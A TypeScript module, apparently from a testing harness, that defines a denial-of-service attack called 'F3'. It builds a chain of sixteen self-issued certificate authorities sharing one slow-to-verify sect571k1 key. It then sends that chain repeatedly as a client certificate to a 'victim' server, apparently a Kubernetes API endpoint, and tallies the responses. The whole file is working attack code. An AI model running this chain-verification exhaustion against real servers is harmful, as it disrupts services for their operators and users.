import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Attack } from './attack';

const AUTHORITIES = 16;

/** A certificate and sixteen authorities that may all have issued each other, with keys that are slow to verify. */
export const CHAINS: readonly Attack[] = [
  {
    name: 'F3: certificate chain of 16 authorities with one key of sect571k1, without credentials',
    atOnce: 2,
    prepare: async ({ dir }) => {
      makeChain(dir);
      return Promise.resolve();
    },
    round: async (victim, signal) => {
      const [cert, key] = ['chain.pem', 'leaf.key'].map((name) => readFileSync(path.join(victim.dir, name)));
      if (cert === undefined || key === undefined) throw new Error('there is no chain');
      const socket = victim.connect({ cert, key });
      socket.setEncoding('latin1');
      const end = (): void => {
        socket.destroy();
      };
      signal.addEventListener('abort', end);
      let text = '';
      socket.on('data', (part: string) => {
        text += part;
        if (text.includes('\r\n\r\n')) end();
      });
      socket.write('GET /api/v1/pods HTTP/1.1\r\nHost: x\r\n\r\n');
      await once(socket, 'close');
      signal.removeEventListener('abort', end);
      if (!signal.aborted) victim.count(Number(/^HTTP\/1\.1 (\d+)/u.exec(text)?.[1] ?? 0));
    },
  },
];

function makeChain(dir: string): void {
  const openssl = (...args: readonly string[]): void => {
    execFileSync('openssl', args, { cwd: dir, stdio: 'ignore' });
  };
  openssl('ecparam', '-name', 'sect571k1', '-genkey', '-noout', '-out', 'ca.key');
  const names = Array.from({ length: AUTHORITIES }, (_, index) => `ca-${String(index)}.pem`);
  for (const [index, name] of names.entries()) {
    const serial = String(index + 1);
    openssl(
      'req',
      '-x509',
      '-new',
      '-key',
      'ca.key',
      '-subj',
      '/CN=X',
      '-days',
      '2',
      '-set_serial',
      serial,
      '-out',
      name,
    );
  }
  openssl('ecparam', '-name', 'prime256v1', '-genkey', '-noout', '-out', 'leaf.key');
  openssl('req', '-new', '-key', 'leaf.key', '-subj', '/CN=leaf', '-out', 'leaf.csr');
  const signed = [
    '-in',
    'leaf.csr',
    '-CA',
    'ca-0.pem',
    '-CAkey',
    'ca.key',
    '-set_serial',
    '99',
    '-days',
    '2',
  ];
  openssl('x509', '-req', ...signed, '-out', 'leaf.pem');
  execFileSync('sh', ['-c', `cat leaf.pem ${names.join(' ')} > chain.pem`], { cwd: dir });
}
